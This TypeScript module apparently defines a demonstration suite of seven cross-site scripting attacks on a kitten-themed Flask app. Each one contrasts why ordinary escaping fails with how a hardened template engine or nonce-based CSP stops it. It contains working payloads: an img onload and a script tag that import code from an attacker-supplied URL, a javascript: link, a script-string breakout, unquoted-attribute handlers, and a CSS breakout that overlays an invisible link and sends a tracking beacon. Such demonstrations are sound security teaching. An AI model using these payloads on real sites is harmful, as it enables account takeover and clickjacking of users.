import type { Attack } from "../attack.ts";

/** A picture that anyone may post; the mischief is elsewhere. */
const BAIT_KITTEN = "domino";

export const INJECTION: readonly Attack[] = [
  {
    slug: "stored-xss",
    title: "A script in a message",
    family: "injection",
    does: "Posts a message whose text is HTML: a picture with a handler that runs as soon as the picture is there.",
    victim: "Read the feed.",
    unsealed:
      "Flask escapes templates whose names end in .html, .htm, .xml, .xhtml or .svg. The message is in post.html.j2, a name that editors like, and so it is printed as it came.",
    sealed: "The name of a template decides nothing: the text is escaped for the place where it lands.",
    proof: "loot",
    async prepare({ target, accomplice, script }) {
      const text = `My kitten! <img src="/static/icon.svg" onload="import('${script}')">`;
      await accomplice.post({ text });
      return { url: `${target.origin}/`, shown: text };
    },
  },
  {
    slug: "unquoted-attribute",
    title: "onmouseover in an attribute without quotes",
    family: "injection",
    does: "Posts a kitten with a caption that contains a space and a handler. The template prints it as alt={{ post.caption }}, without quotes.",
    victim: "Move the mouse over the picture on the feed.",
    unsealed: "HTML escaping knows nothing of spaces: what follows the first one is an attribute of its own.",
    sealed: "The compiler sees that the attribute has no quotes, and puts them there.",
    proof: "loot",
    async prepare({ target, accomplice, script }) {
      const caption = `Kitten onmouseover=import('${script}')`;
      await accomplice.post({ text: "Isn't he lovely?", caption }, { kitten: BAIT_KITTEN });
      return { url: `${target.origin}/`, shown: caption };
    },
  },
  {
    slug: "javascript-link",
    title: "A javascript: link in a profile",
    family: "injection",
    does: "Gives an address that starts with javascript: as the website of a profile.",
    victim: "Click on the website in the profile.",
    unsealed: "The address is escaped, and stays what it is: a program.",
    sealed: "An href takes known schemes only; this one becomes about:invalid#blocked.",
    proof: "loot",
    async prepare({ target, accomplice, script }) {
      const website = `javascript:void import('${script}')`;
      await accomplice.editProfile({ website });
      return { url: target.origin + accomplice.profile, shown: website };
    },
  },
  {
    slug: "script-string",
    title: "Out of a string in a script",
    family: "injection",
    does: "Ends the motto with a backslash, which swallows the quote behind it; so the website, the next value, is no longer in a string but in the program.",
    victim: "Look at the profile.",
    unsealed: "A backslash is nothing in HTML, so HTML escaping leaves it alone.",
    sealed: "In a script every character but letters and digits is written as \\uXXXX: none of them can end a string.",
    proof: "loot",
    async prepare({ target, accomplice, script }) {
      const profile = { motto: "Meow\\", website: `};import(\`${script}\`)//` };
      await accomplice.editProfile(profile);
      return { url: target.origin + accomplice.profile, shown: `motto: ${profile.motto}\nwebsite: ${profile.website}` };
    },
  },
  {
    slug: "style-breakout",
    title: "Out of a colour in a style",
    family: "injection",
    does: "Gives a colour that closes its rule and writes others: an invisible link to the attacker's site that fills the whole page, and a picture whose loading reports who looks.",
    victim: "Look at the profile (and mind where you click).",
    unsealed: "Braces and semicolons are nothing in HTML; a whole style sheet fits into the colour.",
    sealed: "A value in a style is one token: a colour, a number, a word. This is none of them, and is left out.",
    proof: "loot",
    async prepare({ target, accomplice, beacon }) {
      const website = beacon + "clicked-somewhere";
      const colour =
        "red} .profile__website { position: fixed; inset: 0; z-index: 99; opacity: 0 } " +
        `body { background: url(${beacon}a-style-sheet-ran) }`;
      await accomplice.editProfile({ website, colour });
      return { url: target.origin + accomplice.profile, shown: colour };
    },
  },
  {
    slug: "handmade-html",
    title: "HTML made without the template engine",
    family: "injection",
    does: "Links to /greet, a view that answers with a string put together by hand, with a script for a name.",
    victim: "Follow the link.",
    unsealed: "A string from a view is sent as HTML, and nobody has escaped it.",
    sealed: "A string from a view is text/plain. HTML is only what is Markup, and no + makes Markup of a string.",
    proof: "loot",
    prepare({ target, script }) {
      const name = `<script src="${script}"></script>`;
      return { url: `${target.origin}/greet?name=${encodeURIComponent(name)}`, shown: `/greet?name=${name}` };
    },
  },
  {
    slug: "markup-on-user-data",
    title: "Markup on what a user typed",
    family: "injection",
    does: "Writes HTML with a handler into the “about” of a profile. The view declares that text to be Markup, to keep its line breaks.",
    victim: "Look at the profile.",
    unsealed: "Markup means “trust me”, and the view was wrong.",
    sealed:
      "The HTML gets in: the view said so, in the one way that is called unsafe and that a search for imports finds. But it runs nothing: the Content-Security-Policy lets only scripts with this response's nonce run.",
    proof: "loot",
    async prepare({ target, accomplice, script }) {
      const about = `I am a <b>very</b> fluffy kitten. <img src="/static/icon.svg" width="20" onload="import('${script}')">`;
      await accomplice.editProfile({ about });
      return { url: target.origin + accomplice.profile, shown: about };
    },
  },
];
